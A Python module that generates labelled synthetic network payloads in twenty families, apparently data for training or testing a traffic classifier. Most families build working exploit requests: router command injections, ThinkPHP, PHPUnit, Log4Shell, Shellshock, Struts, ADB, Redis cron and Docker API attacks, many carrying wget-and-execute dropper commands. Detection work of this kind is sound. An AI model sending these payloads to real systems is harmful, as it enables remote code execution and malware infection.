"""Twenty families of payloads, each varied as its senders vary it: addresses, names, clients, order, encodings."""

from __future__ import annotations

import base64
import random
import string
import struct
from collections.abc import Callable
from typing import Final

AGENTS: Final = (
    b"Mozilla/5.0",
    b"curl/7.88.1",
    b"Hello, world",
    b"python-requests/2.31",
    b"Go-http-client/1.1",
    b"zgrab/0.x",
    b"",
)
Chance = random.Random


def name(rng: Chance, low: int = 3, high: int = 9) -> bytes:
    return "".join(rng.choices(string.ascii_lowercase, k=rng.randint(low, high))).encode()


def host(rng: Chance) -> bytes:
    if rng.random() < 0.8:
        own = b".".join(b"%d" % rng.randint(1, 254) for _ in range(4))
    else:
        own = name(rng) + b"." + name(rng) + b".example"
    return own + (b":%d" % rng.randint(1024, 65535) if rng.random() < 0.4 else b"")


def http(rng: Chance, method: bytes, path: bytes, body: bytes = b"", *more: bytes) -> bytes:
    """A request with headers in any order, some left out."""
    lines = [b"Host: " + host(rng), *more]
    if agent := rng.choice(AGENTS):
        lines.append(b"User-Agent: " + agent)
    for one in (b"Accept: */*", b"Connection: keep-alive", b"Accept-Encoding: gzip, deflate", b"X-Forwarded-For: " + host(rng)):
        if rng.random() < 0.5:
            lines.append(one)
    rng.shuffle(lines)
    if body:
        lines.append(b"Content-Length: %d" % len(body))
    return method + b" " + path + b" HTTP/1.1\r\n" + b"\r\n".join(lines) + b"\r\n\r\n" + body


def fetch(rng: Chance) -> bytes:
    """Fetch and run, as droppers say it."""
    file = name(rng)
    folder = rng.choice((b"/tmp", b"/var/run", b"/dev/shm"))
    return b"cd %s; wget http://%s/%s; chmod 777 %s; ./%s %s" % (folder, host(rng), file, file, file, name(rng))


def plus(text: bytes) -> bytes:
    return text.replace(b" ", b"+")


def soap_upnp(rng: Chance) -> bytes:
    body = (
        b'<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:AddPortMapping '
        b'xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>%d'
        b"</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>`%s`"
        b"</NewInternalClient><NewEnabled>1</NewEnabled></u:AddPortMapping></s:Body></s:Envelope>"
    ) % (rng.randint(1, 65535), fetch(rng))
    action = b"SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"
    return http(rng, b"POST", b"/picsdesc.xml", body, action)


def soap_huawei(rng: Chance) -> bytes:
    body = (
        b'<?xml version="1.0" ?><s:Envelope><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">'
        b"<NewStatusURL>$(/bin/busybox wget -g %s -l /tmp/%s -r /%s; sh /tmp/%s)</NewStatusURL>"
        b"<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>"
    ) % (host(rng), name(rng), name(rng), name(rng))
    return http(rng, b"POST", b"/ctrlt/DeviceUpgrade_1", body, b'Authorization: Digest username="dslf-config"')


def soap_ntp(rng: Chance) -> bytes:
    body = (
        b'<?xml version="1.0"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1">'
        b"<NewNTPServer1>`%s`</NewNTPServer1><NewNTPServer2></NewNTPServer2></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>"
    ) % fetch(rng)
    return http(rng, b"POST", b"/UD/act?1", body, b"SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers")


def hnap(rng: Chance) -> bytes:
    return http(
        rng, b"GET", b"/HNAP1/", b"", b'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/`%s`"' % fetch(rng)
    )


def jaws(rng: Chance) -> bytes:
    return http(rng, b"GET", b"/shell?" + plus(fetch(rng)))


def netgear(rng: Chance) -> bytes:
    words = b"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=%s&curpath=/&currentsetting.htm=1"
    return http(rng, b"GET", words % plus(fetch(rng)))


def gpon(rng: Chance) -> bytes:
    body = b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`%s`&ipv=0" % plus(fetch(rng))
    return http(rng, b"POST", b"/GponForm/diag_Form?images/", body)


def thinkphp(rng: Chance) -> bytes:
    words = b"/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=%s"
    return http(rng, b"GET", words % plus(fetch(rng)))


def phpunit(rng: Chance) -> bytes:
    path = rng.choice((b"", b"/lib", b"/laravel", b"/blog")) + b"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
    return http(rng, b"POST", path, b'<?php echo md5("%s"); ?>' % name(rng))


def log4shell(rng: Chance) -> bytes:
    words = rng.choice((b"${jndi:ldap://%s/%s}", b"${${lower:j}ndi:${lower:l}dap://%s/%s}"))
    return http(
        rng,
        b"GET",
        b"/",
        b"",
        b"X-Api-Version: " + words % (host(rng), name(rng)),
        b"Referer: " + words % (host(rng), name(rng)),
    )


def shellshock(rng: Chance) -> bytes:
    return http(rng, b"GET", b"/cgi-bin/" + name(rng) + b".cgi", b"", b"Referer: () { :; }; /bin/bash -c '%s'" % fetch(rng))


def struts(rng: Chance) -> bytes:
    words = (
        b"Content-Type: %%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='%s')."
        b"(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))."
        b"(#p=new java.lang.ProcessBuilder(#cmds))}"
    )
    return http(rng, b"GET", b"/" + name(rng) + b".action", b"", words % fetch(rng))


def adb(rng: Chance) -> bytes:
    shell = b"shell:%s\0" % fetch(rng)
    return struct.pack("<6I", 0x4E45504F, rng.randrange(1 << 16), 0, len(shell), sum(shell), 0xB1BAAFB0) + shell


def redis(rng: Chance) -> bytes:
    job = b"\n\n*/%d * * * * curl -fsSL http://%s/%s | sh\n\n" % (rng.randint(1, 59), host(rng), name(rng))
    words = (b"set", name(rng), job)
    out = b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n*%d\r\n" % len(words)
    return out + b"".join(b"$%d\r\n%s\r\n" % (len(one), one) for one in words)


def docker(rng: Chance) -> bytes:
    code = base64.b64encode(fetch(rng))
    body = b'{"Image":"%s","Cmd":["sh","-c","echo %s | base64 -d | sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}'
    return http(rng, b"POST", b"/v1.24/containers/create", body % (name(rng), code), b"Content-Type: application/json")


def tls(rng: Chance) -> bytes:
    """A ClientHello: random bytes, another name, the same habits."""
    server = name(rng) + b".example"
    listed = b"\0\0" + struct.pack("!HHBH", len(server) + 5, len(server) + 3, 0, len(server)) + server
    listed += bytes.fromhex(
        "000500050100000000000a00080006001d00170018000b00020100000d0012001004010403050105030601060302010203"
    )
    suites = bytes.fromhex("cca8cca9c02fc030c02bc02cc013c009c014c00a009c009d002f0035c012000a")
    body = (
        b"\3\3"
        + rng.randbytes(32)
        + b"\0"
        + struct.pack("!H", len(suites))
        + suites
        + b"\1\0"
        + struct.pack("!H", len(listed))
        + listed
    )
    return b"\x16\3\1" + struct.pack("!H", len(body) + 4) + b"\1" + struct.pack("!I", len(body))[1:] + body


def smb(rng: Chance) -> bytes:
    names = b"".join(b"\2" + n + b"\0" for n in (b"LANMAN1.0", b"LM1.2X002", b"NT LANMAN 1.0", b"NT LM 0.12"))
    head = b"\xffSMB\x72\0\0\0\0\x18\x01\x28" + bytes(14) + rng.randbytes(2) + bytes(2) + rng.randbytes(2)
    body = head + b"\0" + struct.pack("<H", len(names)) + names
    return struct.pack("!I", len(body)) + body


def rdp(rng: Chance) -> bytes:
    cookie = b"Cookie: mstshash=%s\r\n" % name(rng)
    return (
        b"\3\0"
        + struct.pack("!H", 19 + len(cookie))
        + bytes([14 + len(cookie)])
        + b"\xe0\0\0\0\0\0"
        + cookie
        + b"\1\0\x08\0\3\0\0\0"
    )


def sip(rng: Chance) -> bytes:
    return (
        b"OPTIONS sip:%d@%s SIP/2.0\r\nVia: SIP/2.0/TCP %s;branch=z9hG4bK-%d;rport\r\nContent-Length: 0\r\n"
        b'From: "sipvicious"<sip:100@1.1.1.1>;tag=%s\r\nAccept: application/sdp\r\nUser-Agent: friendly-scanner\r\n'
        b'To: "sipvicious"<sip:100@1.1.1.1>\r\nContact: sip:100@%s\r\n'
        b"CSeq: 1 OPTIONS\r\nCall-ID: %d\r\nMax-Forwards: 70\r\n\r\n"
    ) % (
        rng.randint(1, 9999),
        host(rng),
        host(rng),
        rng.randrange(10**10),
        rng.randbytes(12).hex().encode(),
        host(rng),
        rng.randrange(10**24),
    )


FAMILIES: Final[tuple[Callable[[Chance], bytes], ...]] = (
    soap_upnp, soap_huawei, soap_ntp, hnap, jaws, netgear, gpon, thinkphp, phpunit, log4shell, shellshock, struts, adb, redis,
    docker, tls, smb, rdp, sip, lambda rng: b"\x13OpenTelnet:OpenOnce" + rng.randbytes(rng.randint(0, 3)),
)  # fmt: skip


def labelled(many: int, seed: int) -> list[tuple[int, bytes]]:
    """So many payloads in random order, each with its family's number."""
    rng = random.Random(seed)
    out = [(n % len(FAMILIES), FAMILIES[n % len(FAMILIES)](rng)) for n in range(many)]
    rng.shuffle(out)
    return out
